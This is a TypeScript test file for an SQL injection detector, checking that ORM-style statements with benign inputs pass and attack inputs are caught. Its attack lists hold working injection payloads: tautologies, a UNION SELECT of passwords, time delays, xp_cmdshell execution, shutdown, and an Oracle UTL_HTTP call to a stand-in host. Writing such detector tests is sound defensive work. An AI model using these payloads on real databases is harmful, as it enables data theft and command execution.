import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import benign from '../../test/vectors/benign.json' with { type: 'json' };
import { detectSqlInjection, sqlStatement } from './sql.ts';
import type { SqlDialect } from './sql-dialects.ts';

/** Statements as object-relational mappers write them, with `{text}` in the literals for the input. */
interface OrmStatement {
  readonly orm: string;
  readonly dialect: SqlDialect;
  readonly statement: string;
}

const STATEMENTS: readonly OrmStatement[] = JSON.parse(
  readFileSync(new URL('./vectors/sql-orms.json', import.meta.url), 'utf8'),
);

const INPUTS = [
  ...benign,
  "it's -- not /* a */ comment; or is it?",
  "Robert'); DROP TABLE students;--",
  "q'[quoted]'",
  "N'x' = N'x'",
  '[dbo].[users]',
  ']] or 1=1 --',
  'a@b.example, c@d.example',
  '@p0, @p1',
  ':1 or :2',
  '$1,000.00',
  '{text} {{text}}',
  'C:\\temp\\',
  "\\' or 1=1 -- \\",
  "' or '1'='1",
  'createdAt DESC',
  'created_at, id desc',
  '#1 #2 ##3',
  'x\n-- y\nz',
];

const ATTACKS = [
  "' OR '1'='1",
  "') OR ('1'='1",
  "' UNION SELECT name, password FROM users-- ",
  "x'/**/or/**/1=1-- ",
];
const ATTACKS_BY_DIALECT: Partial<Record<SqlDialect, string[]>> = {
  mssql: [
    "'; EXEC xp_cmdshell 'dir'--",
    "' EXEC xp_cmdshell 'dir",
    "' WAITFOR DELAY '0:0:5'--",
    "' AND 1=CONVERT(int,@@version)--",
    "' shutdown--",
    "'+@@version+'",
  ],
  oracle: [
    "'||UTL_HTTP.REQUEST('http://evil.example/')||'",
    "'||(SELECT user FROM dual)||'",
    "' AND 1=CTXSYS.DRITHSX.SN(1,user)--",
    "' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1--",
    "'||dbms_xmlgen.getxml(q'[select 1 from dual]')||'",
  ],
};

const doubled = (text: string) => text.replaceAll("'", "''");
const backslashed = (text: string) => text.replace(/['\\]/g, '\\$&');
const both = (text: string) => doubled(text.replaceAll('\\', '\\\\'));

/** How a text is written in a literal, in each of the ways that drivers have for the dialect. */
const escapesOf = (dialect: SqlDialect) => (dialect === 'mysql' ? [backslashed, both] : [doubled]);

function isFound({ dialect }: OrmStatement, statement: string, input: string): boolean {
  return detectSqlInjection(sqlStatement(statement, dialect), input) !== null;
}

describe('statements of object-relational mappers', () => {
  for (const row of STATEMENTS) {
    test(`${row.orm}, ${row.dialect}: ${row.statement}`, () => {
      for (const input of INPUTS) {
        for (const write of escapesOf(row.dialect)) {
          assert.equal(
            isFound(
              row,
              row.statement.replaceAll('{text}', () => write(input)),
              input,
            ),
            false,
            input,
          );
        }
      }
      if (!row.statement.includes('{text}')) return;
      for (const attack of [...ATTACKS, ...(ATTACKS_BY_DIALECT[row.dialect] ?? [])]) {
        assert.equal(
          isFound(
            row,
            row.statement.replaceAll('{text}', () => attack),
            attack,
          ),
          true,
          attack,
        );
      }
    });
  }
});
